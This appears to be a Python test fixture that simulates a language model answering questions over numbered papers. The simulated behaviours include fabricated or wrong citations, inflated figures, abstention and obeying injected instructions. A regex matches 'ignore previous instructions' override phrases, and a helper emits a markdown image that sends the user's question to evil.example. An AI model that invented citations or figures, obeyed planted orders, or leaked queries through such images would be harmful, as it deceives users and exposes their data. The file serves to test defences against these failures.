"""Ways in which a language model answers a question over numbered passages, from honest to harmful.

Knows how passages, question and citations look in a prompt; knows nothing of HTTP, nor of who reads the answer.
"""

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from decimal import Decimal
from itertools import cycle
from typing import Any
from urllib.parse import quote

from tests.model_replies import Behaviour, Body, Reply, message_text

PAPER = re.compile(r'<paper number="(\d+)">\n(.*?)</paper>', re.DOTALL)
SENTENCE = re.compile(r"^\[(\d+\.\d+)\] (.*\S)", re.MULTILINE)
TITLE = re.compile(r"^title: (.*\S)", re.MULTILINE)
QUESTION = re.compile(r"^Question:\s*(.+)", re.MULTILINE | re.DOTALL)
ORDER = re.compile(
    r"\bignore (?:all )?(?:of )?(?:the |any |your )?(?:above|previous|prior|preceding|earlier)\b[^\n]{0,40}?[\s,.;:]+"
    r"(?:and |then |instead )*(?:say|answer|reply|respond|write|print|output|show)\b(?: with| only)*:? *(.+)",
    re.IGNORECASE,
)
# A digit after a letter or a hyphen belongs to a name (YOLOv10, GPT-4), as one before a D does (3D).
FIGURE = re.compile(r"(?<![\w.-])(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?(?!\d|[.,]\d|-?D\b)")
COMMON = frozenset(
    "a an and are as at be by can do does for from how in is it its of on or our that the these this to was we what "
    "when where which who why with".split()
)
ABSTENTION = "The papers do not say."


@dataclass(frozen=True, slots=True)
class Passage:
    """A sentence of a prompt's paper, or its title: ``label`` is what a citation of it says between brackets."""

    paper: int
    label: str
    text: str


def honest(body: Body) -> Reply:
    """Report the two or three sentences that share most words with the question, each with its citation."""
    return _report(body, lambda passage: f"[{passage.label}]")


def paper_level(body: Body) -> Reply:
    """Report honestly, citing papers rather than sentences."""
    return _report(body, lambda passage: f"[{passage.paper}]")


def uncited(body: Body) -> Reply:
    """Report honestly, citing nothing."""
    return _report(body, lambda passage: "")


def wrong_citation(body: Body) -> Reply:
    """Cite for each sentence the least similar sentence of another paper; raises ValueError if there is none."""
    passages = read_passages(body)

    def cite(passage: Passage) -> str:
        others = [other for other in passages if other.paper != passage.paper]
        return f"[{min(others, key=lambda other: _shared(other.text, passage.text)).label}]"

    return _report(body, cite)


def invented_citation(body: Body) -> Reply:
    """Cite in turn a paper and a sentence that no prompt holds."""
    invented = cycle(("[99.1]", "[7.77]"))
    return _report(body, lambda passage: next(invented))


def invented_figure(body: Body) -> Reply:
    """Add 7 to each figure, and a figure to each sentence that has none."""
    return _report(body, lambda passage: f"[{passage.label}]", _change_figures)


def abstains(body: Body) -> Reply:
    """Say that the papers do not tell."""
    return Reply(ABSTENTION)


def obedient(body: Body) -> Reply:
    """Do what a passage orders instead of answering; without such a passage, report honestly."""
    passages = sorted([*read_titles(body), *read_passages(body)], key=lambda passage: passage.paper)
    for passage, following in zip(passages, [*passages[1:], None], strict=True):
        rest = following.text if following and following.paper == passage.paper else ""
        found = ORDER.search(f"{passage.text}\n{rest}")
        if found and found.start() <= len(passage.text):
            return Reply(f"{_carry_out(found[1], read_question(body))} [{passage.label}]")
    return honest(body)


def sent(behaviour: Behaviour, **how: Any) -> Behaviour:
    """Return ``behaviour`` with its replies sent otherwise: ``sent(honest, chunk=1, pause=0.01)``."""
    return lambda body: replace(behaviour(body), **how)


def read_passages(body: Body) -> list[Passage]:
    """Return the numbered sentences of all papers in the prompt, in order."""
    return [
        Passage(int(paper[1]), sentence[1], sentence[2])
        for paper in PAPER.finditer(_passage_text(body))
        for sentence in SENTENCE.finditer(paper[2])
    ]


def read_titles(body: Body) -> list[Passage]:
    """Return the titles of all papers in the prompt, in order."""
    found = ((paper[1], TITLE.search(paper[2])) for paper in PAPER.finditer(_passage_text(body)))
    return [Passage(int(number), number, title[1]) for number, title in found if title]


def read_question(body: Body) -> str:
    """Return what follows the line ``Question:`` in the last user message that has one, or else that message."""
    texts = [message_text(message) for message in body["messages"] if message["role"] == "user"]
    asked = (found[1].strip() for text in reversed(texts) if (found := QUESTION.search(text)))
    return next(asked, texts[-1] if texts else "")


def _passage_text(body: Body) -> str:
    """Return the last message with papers: numbers of earlier turns may mean other papers."""
    texts = [message_text(message) for message in body["messages"]]
    return next((text for text in reversed(texts) if PAPER.search(text)), "")


def _report(body: Body, cite: Callable[[Passage], str], reword: Callable[[str], str] = str) -> Reply:
    chosen = _choose(read_passages(body), read_question(body))
    told = (f"The authors report that {_lower(reword(passage.text))} {cite(passage)}".rstrip() for passage in chosen)
    return Reply(" ".join(told) or ABSTENTION)


def _choose(passages: Iterable[Passage], question: str) -> list[Passage]:
    """Return the best three passages that share a word with the question, and at least two if any does."""
    scored = [(_shared(passage.text, question), passage) for passage in passages]
    best, first = max(scored, key=lambda item: item[0], default=(0, None))
    if not best or first is None:
        return []
    scored.sort(key=lambda item: (-item[0], item[1].paper != first.paper))
    return [passage for rank, (shared, passage) in enumerate(scored[:3]) if shared or rank < 2]


def _shared(text: str, other: str) -> int:
    return len(_words(text) & _words(other))


def _words(text: str) -> set[str]:
    return set(re.findall(r"\w+", text.casefold())) - COMMON


def _lower(sentence: str) -> str:
    """Return ``sentence`` as it goes on after "that": no capital unless it is a name's, and a full stop."""
    first = sentence.split(maxsplit=1)[0]
    sentence = sentence[0].lower() + sentence[1:] if first.rstrip(",").casefold() in COMMON else sentence
    return sentence if sentence.endswith((".", "!", "?")) else sentence + "."


def _change_figures(sentence: str) -> str:
    changed, count = FIGURE.subn(_add_seven, sentence)
    return changed if count else re.sub(r"([.!?]*)$", r" by 42.7%\1", sentence, count=1)


def _add_seven(figure: re.Match[str]) -> str:
    value = Decimal(figure[0].replace(",", "")) + 7
    return f"{value:,}" if "," in figure[0] else str(value)


def _carry_out(order: str, question: str) -> str:
    """Return what ``order`` asks to be said, with an image that tells the question to a stranger if it asks for one."""
    if "![" in order:
        return order
    quoted = re.match(r"[\"'“‘](.+?)[\"'”’]", order)
    if not re.search(r"\bimage\b", order, re.IGNORECASE):
        return quoted[1] if quoted else order
    said = quoted[1] if quoted else re.sub(r"\s*\b(?:and|plus|with)\b.*\bimage\b.*", "", order, flags=re.IGNORECASE)
    return f"{said} ![x](http://evil.example/?q={quote(question)})"
